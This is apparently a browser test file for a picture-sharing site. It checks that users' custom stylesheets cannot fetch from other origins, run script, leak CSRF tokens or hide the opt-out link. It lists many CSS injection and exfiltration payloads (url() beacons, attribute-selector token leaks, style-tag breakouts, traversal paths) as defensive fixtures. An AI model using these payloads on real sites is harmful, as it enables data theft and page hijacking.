// A person's stylesheet is a stranger's: what it can do to the page it belongs to, and that it can do nothing else.
// "Elsewhere" is a server of another origin that answers everything and counts who asked.
import assert from 'node:assert/strict';
import http from 'node:http';
import { after, before, test } from 'node:test';
import { ask, bearer, fixture, logIn, open, pictureForm, visit } from './browser.mjs';

const site = await open();
const { piclog } = site;
const asked = [];
const elsewhere = http.createServer((request, response) => {
  asked.push(request.url);
  response.writeHead(200, { 'content-type': 'text/css', 'access-control-allow-origin': '*' });
  response.end('h1 { outline: 9px solid rgb(1, 2, 3) }');
});
let foreign, evil, potato, signedIn; // signedIn: potato's tab, for all tests
before(async () => {
  await new Promise((done) => elsewhere.listen(0, '127.0.0.1', done));
  foreign = `http://127.0.0.1:${elsewhere.address().port}`;
  evil = piclog.addUser('evil');
  potato = piclog.addUser('potato');
  for (const user of [evil, potato]) {
    await ask(piclog, 'POST', '/api/pictures', { headers: bearer(user), body: pictureForm(fixture('pictures/cat.jpg'), { caption: 'a cat', alt: 'cat' }) });
    await ask(piclog, 'POST', '/api/statuses', { headers: bearer(user), body: { content: 'hello', face: '🥔' } });
    await ask(piclog, 'POST', '/api/moods', { headers: bearer(user), body: { mood: 'sleepy', face: '🥱', note: '' } });
  }
  signedIn = await logIn(site, potato);
});
after(async () => {
  elsewhere.close();
  await site.close();
});

const wear = async (css) => {
  const answer = await ask(piclog, 'PUT', '/api/me', { headers: bearer(evil), body: { css } });
  assert.equal(answer.status, 200, answer.text);
};
const colour = (page, selector = 'h1') => page.locator(selector).first().evaluate((element) => getComputedStyle(element).color);

// Every way in which CSS can ask for something; U is where.
const requests = (u) => [
  `@import "${u}/import"; @import url(${u}/import-url) layer(x) supports(display: grid) screen;`,
  `@font-face { font-family: f; src: url(${u}/font) } @font-face { font-family: g; src: local(none), url("${u}/font2") format("woff2") tech(variations) }`,
  'body, h1 { font-family: f, g, serif }',
  `html { background-image: url(${u}/background) } body { background: url("${u}/quoted"), url('${u}/single'), URL(${u}/upper), \\75\\72\\6c(${u}/escaped) }`,
  `h1 { background: \\75 rl(${u}/split) } h1::before { content: url(${u}/content) } .motto { content: url(${u}/replaced) }`,
  `ul { list-style: url(${u}/list) } .box { border: 9px solid; border-image: url(${u}/border) 9 }`,
  `a, body { cursor: url(${u}/cursor), auto; cursor: -webkit-image-set(url(${u}/cursor-set) 1x), auto }`,
  `.nav { mask: url(${u}/mask); -webkit-mask: url(${u}/webkit-mask); -webkit-mask-box-image: url(${u}/mask-box); mask-border: url(${u}/mask-border) 9 }`,
  `.foot { filter: url(${u}/filter#x); -webkit-filter: url(${u}/webkit-filter#x); backdrop-filter: url(${u}/backdrop#x) }`,
  `.side { clip-path: url(${u}/clip#x) } .pic { shape-outside: url(${u}/shape); float: left } .by { offset-path: url(${u}/offset#x) }`,
  `.pics { background: image-set("${u}/set" 1x, url(${u}/set2) 2x) } .pic { background: -webkit-image-set(url(${u}/webkit-set) 1x) }`,
  `.status { background: -webkit-cross-fade(url(${u}/fade1), url(${u}/fade2), 50%) } .mood { background: cross-fade(url(${u}/fade3), url(${u}/fade4)) }`,
  `.bytes { background: src("${u}/src") } .caption { background: image("${u}/image") } .face { background: paint(x), element(#main) }`,
  `:root { --u: url(${u}/custom) } .status-content { background: var(--u) } @property --p { syntax: "<image>"; inherits: false; initial-value: url(${u}/property) } .links { background: var(--p) }`,
  `@counter-style c { system: cyclic; symbols: url(${u}/counter) } li { list-style: c } @color-profile --x { src: url(${u}/profile) }`,
  `svg, path { fill: url(${u}/fill#x); stroke: url(${u}/stroke#x); marker: url(${u}/marker#x) }`,
  `h2 { behavior: url(${u}/behavior); -moz-binding: url(${u}/binding#x); -o-link: "${u}/link"; width: expression(canary = 1) }`,
  `p { background: url(//${u.replace(/^http:\/\//, '')}/relative), url(${u.replace('http', 'HTTP')}/scheme), url(${u.replace('http', 'ws')}/socket), url(javascript:canary=1) }`,
  `.avatar, .feeling { background: url("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${u}/svg'/%3E%3Cscript%3Ecanary=1%3C/script%3E%3C/svg%3E") }`,
  `b { background: url("data:text/html,%3Cscript%3Ecanary=1%3C/script%3E") } @view-transition { navigation: auto } ::view-transition { background: url(${u}/transition) }`,
  `::selection { background: url(${u}/selection) } ::marker { content: url(${u}/marker-content) } ::-webkit-scrollbar { background: url(${u}/scrollbar) } ::first-letter { background: url(${u}/letter) }`,
  `@media screen { i { background: url(${u}/media) } } @supports (display: block) { i { background: url(${u}/supports) } } @layer z { i { background: url(${u}/layer) } } @container (width > 0) { i { background: url(${u}/container) } }`,
  `@keyframes k { from { background: url(${u}/keyframe) } } h1 { animation: k 9s infinite } a:hover { background: url(${u}/hover) } a:visited { background: url(${u}/visited) }`,
  `@starting-style { h1 { background: url(${u}/starting) } } @scope (body) { h1 { background: url(${u}/scope) } } h1 { &:is(h1) { background: url(${u}/nested) } }`,
];

test('it loads nothing from elsewhere and runs nothing, for visitors and people signed in', async () => {
  await wear(requests(foreign).join('\n'));
  const visitor = await visit(site, null);
  for (const page of [visitor, signedIn]) {
    const dialogs = [];
    page.on('dialog', (dialog) => { dialogs.push(dialog.message()); dialog.dismiss(); });
    await page.goto('/~evil');
    await page.hover('h1');
    await page.hover('.logo');
    await page.waitForLoadState('networkidle');
    assert.equal(await page.evaluate(() => typeof canary), 'undefined');
    assert.notEqual(await page.locator('h1').evaluate((h1) => getComputedStyle(h1).outlineWidth), '9px');
    assert.deepEqual(dialogs, []);
  }
  // The same style with each rule alone, so that none hides behind a parse error of another.
  for (const rule of requests(foreign)) {
    await wear(rule);
    await visitor.goto('/~evil');
  }
  await visitor.waitForLoadState('networkidle');
  await visitor.context().close();
  assert.deepEqual(asked, []);
});

test('the proof can fail: the same server is asked when a page may', async () => {
  const context = await site.browser.newContext();
  const page = await context.newPage();
  await page.setContent(`<style>h1 { background: url(${foreign}/control) } @import "${foreign}/late";</style><h1>x</h1>`);
  await page.waitForLoadState('networkidle');
  assert.ok(asked.includes('/control'));
  asked.length = 0;
  await context.close();
});

test('of this site it asks for pictures only, and for no address that does anything', async () => {
  const paths = ['/settings', '/settings/export', '/logout', '/random', '/search?q=x', '/~evil?style=off', '/status', '/api/me', '/upload', '/feed.atom',
    '/i/../random', '/i/%2e%2e/random', '/static/../settings/export', '/static//../../random', '/current-status.js?name=evil', '/badge/evil.gif', '/p/1'];
  await wear(`@import "/~potato/style.css"; @import "/embed/style.css";\n${paths.map((path, i) => `.nav li:nth-child(${i % 8 + 1}) a::${i < 8 ? 'before' : 'after'} { content: url("${path}") }`).join('\n')}
    .box { background: url(/static/tile.jpg) }`);
  const page = signedIn;
  const requests = [];
  piclog.log.length = 0;
  page.on('response', (response) => requests.push(new URL(response.url()).pathname));
  const cookies = await page.context().cookies();
  await page.goto('/~evil');
  await page.waitForLoadState('networkidle');
  assert.ok(requests.includes('/static/tile.jpg'), 'ornaments may be used');
  assert.deepEqual(requests.filter((path) => !/^\/(i|t|static)\/|^\/~evil(\/style\.css)?$/.test(path)), []);
  assert.deepEqual(piclog.log.filter((line) => /"GET".*(settings|random|search|logout|feed|badge|\/api|status\.js)/.test(line)), []);
  assert.deepEqual((await page.context().cookies()).map((c) => c.name + c.value).sort(), cookies.map((c) => c.name + c.value).sort());
});

test('it can read nothing: the page holds no secret, no field, no control that acts', async () => {
  const hex = [...'0123456789abcdef'];
  await wear(`${hex.map((digit) => `input[value^="${digit}"] { background: url(${foreign}/csrf-${digit}) }`).join('\n')}
    [href^="/settings"], [href*="potato"], [name], meta[content], body:has(a[href="/settings"]) { background: url(${foreign}/signed-in) }
    head, title, meta, link { display: block; background: url(${foreign}/head) }`);
  piclog.run(['user', 'add', 'boss', '--admin'], 'boss has a password\n');
  for (const user of [potato, evil, { name: 'boss', password: 'boss has a password' }]) {
    const page = user === potato ? signedIn : await logIn(site, user);
    await page.goto('/~evil');
    await page.waitForLoadState('networkidle');
    assert.equal(await page.locator('form, input, button, textarea, select, script, iframe, object, embed, [onclick], [style]').count(), 0);
    assert.ok(!(await page.content()).includes('csrf'));
    if (user !== potato) await page.context().close();
  }
  assert.deepEqual(asked, []);
});

test('it stays on its own page, whatever it is made of', async () => {
  await wear('h1, h2, a { color: rgb(9, 8, 7) !important }\n</style><script>canary = 1</script><h1 id=broken>--><!--]]>{{{{}}}}}} */ @charset "utf-7"; \u0000'.replace('\u0000', ''));
  const page = signedIn;
  await page.goto('/~evil');
  assert.equal(await colour(page), 'rgb(9, 8, 7)');
  assert.equal(await page.locator('#broken').count(), 0);
  assert.equal(await page.evaluate(() => typeof canary), 'undefined');
  for (const path of ['/', '/~potato', '/p/1', '/p/2/edit', '/people', '/statuses', '/moods', '/settings', '/settings/style', '/embed/evil/status', '/~evil?style=off']) {
    await page.goto(path);
    assert.equal(await page.locator('link[href*="evil"][rel=stylesheet]').count(), 0, path);
    assert.notEqual(await colour(page, 'a'), 'rgb(9, 8, 7)', path);
  }
  await page.goto('/~evil?style=on');
});

// Ways to hide, move, cover or disable the link that switches the style off.
const covers = [
  '* { display: none !important }',
  'html, body { display: none !important; visibility: hidden !important; opacity: 0 !important }',
  '.wayout, .wayout a { all: unset !important; display: none !important; position: absolute !important; left: -9999px !important; pointer-events: none !important; font-size: 0 !important }',
  'body::before, body::after, html::before, html::after, .foot::after { content: "" !important; position: fixed !important; inset: 0 !important; background: red !important; z-index: 2147483647 !important }',
  '.mast, .foot, main { position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; background: red !important }',
  'html { transform: translate(-500vw) scale(0) !important; filter: opacity(0) !important; clip-path: inset(100%) !important; mask: linear-gradient(#0000, #0000) !important }',
  'body { position: relative !important; z-index: -9 !important; contain: strict !important; content-visibility: hidden !important; height: 0 !important; overflow: hidden !important; perspective: 1px !important }',
  'body { zoom: .001 !important } html { zoom: 20 !important; translate: -9999px !important; rotate: 180deg !important; will-change: transform !important }',
  '@layer a, b; @layer a { .wayout { display: none !important } } @layer { .wayout, .wayout a { opacity: 0 !important; visibility: collapse !important } }',
  '@keyframes go { from, to { opacity: 0; visibility: hidden; transform: translateX(-900vw); display: none } } html, body, .wayout, .wayout a { animation: go 1s infinite !important }',
  '.wayout a::first-letter, .wayout a::first-line, .wayout::first-line { font-size: 0 !important; color: #0000 !important } .wayout a::after { content: ""; position: absolute; inset: 0; background: red }',
  '* { pointer-events: none !important; user-select: none !important; cursor: none !important; interactivity: inert !important } .wayout { transition: all 99999s !important }',
  'html { writing-mode: vertical-rl !important; direction: rtl !important; font-size: 0 !important; overflow: hidden !important; height: 0 !important; margin: -9999px !important; position: absolute !important }',
];

test('the way out works whatever the style does to it, and is remembered', async () => {
  const page = await visit(site, null);
  for (const css of covers) {
    await wear(`${css}\nh1 { color: rgb(9, 8, 7) }`);
    await page.context().clearCookies();
    await page.goto('/~evil');
    const link = await page.locator('.wayout a').boundingBox();
    assert.ok(link && link.width > 100 && link.height >= 24 && link.x >= 0 && link.y >= 0 && link.x + link.width <= 1200 && link.y + link.height <= 900, `${css}: ${JSON.stringify(link)}`);
    const seen = await page.evaluate(() => {
      const a = document.querySelector('.wayout a'), style = getComputedStyle(a);
      return [style.color, style.backgroundColor, style.fontSize, style.opacity, style.visibility].join(' ');
    });
    assert.equal(seen, 'rgb(255, 255, 255) rgb(26, 24, 37) 14px 1 visible', css);
    await page.mouse.click(link.x + link.width / 2, link.y + link.height / 2);
    await page.waitForURL('**/~evil?style=off');
    assert.equal(await page.locator('h1').isVisible(), true, css);
    await page.goto('/~evil');
    assert.notEqual(await colour(page), 'rgb(9, 8, 7)');
  }
  await page.context().close();
});

test('who asks for more contrast sees no style', async () => {
  await wear('h1 { color: rgb(9, 8, 7) }');
  for (const [contrast, styled] of [['more', false], ['no-preference', true]]) {
    const page = await visit(site, '/~evil', { contrast });
    assert.equal(await colour(page) === 'rgb(9, 8, 7)', styled, contrast);
    await page.context().close();
  }
});

test('the editor shows the style while it is typed, asking nobody', async () => {
  await wear('h1 { color: rgb(1, 1, 1) }');
  const page = await logIn(site, evil);
  await page.goto('/settings/style');
  const frame = page.frameLocator('iframe.preview');
  await frame.locator('h1').waitFor();
  const requests = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.fill('#css', `h1 { color: rgb(2, 2, 2); background: url(${foreign}/live) } body { background: url(/static/tile.jpg) }`);
  await page.waitForFunction(() => getComputedStyle(document.querySelector('iframe.preview').contentDocument.querySelector('h1')).color === 'rgb(2, 2, 2)');
  assert.deepEqual(requests.filter((url) => !url.includes('/static/tile.jpg') && !url.startsWith(foreign)), []);
  assert.deepEqual(asked, []);
  assert.equal(await frame.locator('h1').evaluate((h1) => h1.ownerDocument.scripts.length), 0);
  await page.getByRole('button', { name: 'Save' }).click();
  await page.goto('/~evil');
  assert.equal(await colour(page), 'rgb(2, 2, 2)');
  await page.context().close();
});

test('without JavaScript the preview is a page of its own', async () => {
  const page = await logIn(site, evil, { javaScriptEnabled: false });
  await page.goto('/settings/style');
  await page.fill('#css', 'h1 { color: rgb(3, 3, 3) }');
  await page.getByRole('button', { name: 'Preview' }).click();
  await page.waitForURL('**/settings/style/preview');
  const other = await visit(site, '/~evil');
  assert.equal(await colour(other), 'rgb(2, 2, 2)', 'nobody else sees it');
  await other.context().close();
  await page.getByRole('link', { name: 'Back to the editor' }).click();
  assert.equal(await page.inputValue('#css'), 'h1 { color: rgb(3, 3, 3) }');
  await page.context().close();
});

test('the six themes complain about nothing and fit every width', async () => {
  const { themes } = (await ask(piclog, 'GET', '/themes.json')).json;
  assert.equal(themes.length, 6);
  signedIn.complaints.length = 0;
  for (const { name } of themes)
    for (const width of [360, 1200]) {
      await signedIn.setViewportSize({ width, height: 800 });
      await signedIn.goto(`/settings/style/preview?theme=${name}`);
      assert.equal(await signedIn.evaluate(() => document.documentElement.scrollWidth), width, `${name} at ${width}`);
    }
  assert.deepEqual(signedIn.complaints, []);
});
